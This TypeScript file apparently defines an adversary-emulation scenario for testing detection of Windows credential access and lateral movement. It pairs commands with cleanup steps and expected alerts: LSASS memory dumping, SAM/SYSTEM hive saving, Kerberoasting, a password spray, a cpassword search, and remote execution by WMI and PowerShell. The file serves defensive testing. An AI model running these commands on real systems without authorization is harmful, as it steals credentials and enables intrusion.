import { alerted, logged, prevented, type StarterScenario } from './shape.ts';

const windows = { platforms: ['windows'] };

export const credentials: StarterScenario = {
  name: 'Credentials and the next host',
  description:
    'From one Windows host to another: the domain is looked over, credentials are taken from memory, from the registry, from the domain and from files, and then used. Prevention matters more here than anywhere else.',
  tags: ['windows', 'credential access', 'lateral movement'],
  tests: [
    {
      key: 'domain-administrators',
      technique: 'T1069.002',
      name: 'Who administers the domain',
      description: 'The members of the groups that may do everything in the domain are listed.',
      objective: 'Find the accounts that are worth the rest of the way.',
      procedure:
        'Run the commands on a host of the domain as the exercise account, which may do so like everybody. Note the time to the second: the same commands run at many sites every day.',
      command: 'net group "Domain Admins" /domain & net group "Enterprise Admins" /domain',
      cleanup_command: null,
      expected_detection:
        'Process creation of net.exe with the name of a group of administrators and /domain; security event 4661 for the group on a domain controller, where it is audited.',
      ...windows,
      opsec: 'low',
      tags: ['domain', 'discovery burst'],
      expectations: [alerted('low', 30), logged],
    },
    {
      key: 'domain-trusts',
      technique: 'T1482',
      name: 'List the trusts of the domain',
      description: 'The domains that this one trusts, and those that trust it, are listed.',
      objective: 'Find a way into the next domain.',
      procedure: 'Run the command on a host of the domain as the exercise account, and keep its output.',
      command: 'nltest.exe /domain_trusts /all_trusts',
      cleanup_command: null,
      expected_detection:
        'Process creation of nltest.exe with /domain_trusts, which hardly anybody but an intruder types.',
      ...windows,
      opsec: 'low',
      tags: ['domain', 'discovery burst'],
      expectations: [alerted('medium', 30), logged],
    },
    {
      key: 'lsass-dump',
      technique: 'T1003.001',
      name: 'Dump the memory of LSASS',
      description:
        'The memory of the process that keeps credentials is written to a file, with a library of Windows.',
      objective: 'Obtain credentials of people who are signed in to the host.',
      procedure:
        'Needs an elevated PowerShell. The file holds real credentials: never let it leave the host, and delete it at once. Where credential protection is on, an error is the expected result; keep it.',
      command:
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Windows\\Temp\\damson.dmp full',
      cleanup_command: 'Remove-Item C:\\Windows\\Temp\\damson.dmp',
      expected_detection:
        'Process access to lsass.exe with read rights (Sysmon event 10); rundll32.exe with comsvcs.dll; blocked by credential protection or an attack surface reduction rule.',
      ...windows,
      opsec: 'high',
      tags: ['needs elevation'],
      expectations: [prevented, alerted('critical', 5)],
    },
    {
      key: 'registry-hives',
      technique: 'T1003.002',
      name: 'Save the SAM and SYSTEM hives',
      description:
        'Two parts of the registry are saved to files, of which hashes of local accounts can be read.',
      objective: 'Obtain the hashes of local accounts, which may be the same on other hosts.',
      procedure: 'Needs an elevated console. The files are as good as passwords: delete them at once.',
      command:
        'reg save HKLM\\SAM C:\\Windows\\Temp\\damson-sam.hiv /y & reg save HKLM\\SYSTEM C:\\Windows\\Temp\\damson-system.hiv /y',
      cleanup_command: 'del C:\\Windows\\Temp\\damson-sam.hiv C:\\Windows\\Temp\\damson-system.hiv',
      expected_detection:
        'Process creation of reg.exe with save and HKLM\\SAM; a file with the signature of a hive in a temporary folder.',
      ...windows,
      opsec: 'high',
      tags: ['needs elevation'],
      expectations: [alerted('high', 10), logged],
    },
    {
      key: 'service-tickets',
      technique: 'T1558.003',
      name: 'Ask for a service ticket to crack',
      description:
        'A ticket for an account with a service name is asked for, of the kind whose password can be guessed offline.',
      objective: 'Obtain something of a service account that can be guessed at without being noticed.',
      procedure:
        'Let the domain’s administrators name an account with a service name for the exercise, #{service_name}. Any account of the domain may ask. Keep the output of klist; crack nothing.',
      command:
        'Add-Type -AssemblyName System.IdentityModel\nNew-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList "#{service_name}"\nklist',
      cleanup_command: 'klist purge',
      expected_detection:
        'Security event 4769 with ticket encryption 0x17 for an account that is no computer; a decoy service account that nobody has a reason to ask for.',
      ...windows,
      opsec: 'low',
      tags: ['kerberos', 'domain'],
      expectations: [alerted('high', 30), logged],
      variables: { service_name: 'MSSQLSvc/sql01.exercise.example:1433' },
    },
    {
      key: 'passwords-in-files',
      technique: 'T1552.001',
      name: 'Look for passwords in files',
      description: 'Documents and scripts of a share are searched for the word password.',
      objective: 'Find credentials that somebody wrote down.',
      procedure:
        'Put a decoy, passwords.txt with a made-up account, on the share first. Search, then try to open the decoy. Read no real finding aloud.',
      command:
        'findstr /s /i /m "password" \\\\#{file_server}\\public\\*.txt \\\\#{file_server}\\public\\*.ps1',
      cleanup_command: null,
      expected_detection:
        'Reads of many files of a share by one account within a minute (security event 5145); access to the decoy.',
      ...windows,
      opsec: 'medium',
      tags: ['shares'],
      expectations: [logged],
      variables: { file_server: 'files01' },
    },
    {
      key: 'group-policy-passwords',
      technique: 'T1552.006',
      name: 'Look for passwords in group policies',
      description: 'The policies of the domain, which everybody may read, are searched for stored passwords.',
      objective: 'Find a password that an administrator once put into a policy.',
      procedure:
        'Run the command in a console on a host of the domain. A file that is found holds a password that anybody can decrypt: report it, whatever else comes of the exercise.',
      command: 'findstr /s /i /m cpassword "\\\\%USERDNSDOMAIN%\\SYSVOL\\%USERDNSDOMAIN%\\Policies\\*.xml"',
      cleanup_command: null,
      expected_detection:
        'Process creation of findstr.exe with cpassword; reads of many policies by one account within a minute (security event 5145 on SYSVOL).',
      ...windows,
      opsec: 'medium',
      tags: ['domain'],
      expectations: [alerted('high', 30), logged],
    },
    {
      key: 'password-spray',
      technique: 'T1110.003',
      name: 'One password against many accounts',
      description:
        'One wrong password is tried once against each of a list of accounts, slowly enough to lock none of them.',
      objective: 'Find the account whose password is the season and the year.',
      procedure:
        'Agree on the accounts with their owners and put them into accounts.txt, one a line. Check the lockout policy first: one attempt for each account is enough.',
      command:
        'for /f %a in (accounts.txt) do @net use \\\\#{file_server}\\IPC$ /user:%a "Winter-is-coming-1" & timeout /t 5 >nul',
      cleanup_command: 'net use \\\\#{file_server}\\IPC$ /delete',
      expected_detection:
        'Security events 4625 or 4771 for many accounts from one address within some minutes, each account failing once.',
      ...windows,
      opsec: 'medium',
      tags: ['accounts', 'domain'],
      expectations: [alerted('high', 15), logged],
      variables: { file_server: 'files01' },
    },
    {
      key: 'administrative-share',
      technique: 'T1021.002',
      name: 'Copy a file to an administrative share',
      description:
        'A harmless file is put into the Windows folder of another host by its administrative share.',
      objective: 'Move to the next host with a valid account.',
      procedure: 'Use an account that administers #{target_host}. Copy, list the file there, and clean up.',
      command: 'echo damson > damson.txt & copy damson.txt \\\\#{target_host}\\ADMIN$\\Temp\\damson.txt',
      cleanup_command: 'del \\\\#{target_host}\\ADMIN$\\Temp\\damson.txt damson.txt',
      expected_detection:
        'Security events 5140 and 5145 on ADMIN$ from a workstation; a network sign-in (4624, type 3) just before.',
      ...windows,
      opsec: 'medium',
      tags: ['shares', 'needs administration of the target'],
      expectations: [alerted('medium', 15), logged],
      variables: { target_host: 'target01' },
    },
    {
      key: 'remote-wmi',
      technique: 'T1047',
      name: 'Start a process on another host by WMI',
      description: 'A command is started on another host without any tool being copied there.',
      objective: 'Run something on the next host with what is there already.',
      procedure:
        'Use an account that administers #{target_host}. Check on the target that the file was written.',
      command:
        'Invoke-CimMethod -ComputerName #{target_host} -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = "cmd.exe /c whoami > C:\\Windows\\Temp\\damson-wmi.txt" }',
      cleanup_command:
        'Invoke-Command -ComputerName #{target_host} { Remove-Item C:\\Windows\\Temp\\damson-wmi.txt }',
      expected_detection:
        'On the target: process creation of cmd.exe by wmiprvse.exe, with a network sign-in of the same account.',
      ...windows,
      opsec: 'medium',
      tags: ['wmi', 'needs administration of the target'],
      expectations: [alerted('high', 10), logged],
      variables: { target_host: 'target01' },
    },
    {
      key: 'remote-powershell',
      technique: 'T1021.006',
      name: 'Command on another host by PowerShell remoting',
      description: 'A command runs on another host by the way that administrators take too.',
      objective: 'Move on without a file, among traffic that nobody looks at.',
      procedure:
        'Use an account that administers #{target_host}, from a workstation that administers nothing. Keep the output.',
      command: 'Invoke-Command -ComputerName #{target_host} -ScriptBlock { hostname; whoami }',
      cleanup_command: null,
      expected_detection:
        'On the target: wsmprovhost.exe, a network sign-in (4624, type 3) and WinRM event 91; a connection to port 5985 or 5986 from a host that is no management host.',
      ...windows,
      opsec: 'medium',
      tags: ['powershell', 'needs administration of the target'],
      expectations: [alerted('medium', 15), logged],
      variables: { target_host: 'target01' },
    },
  ],
};
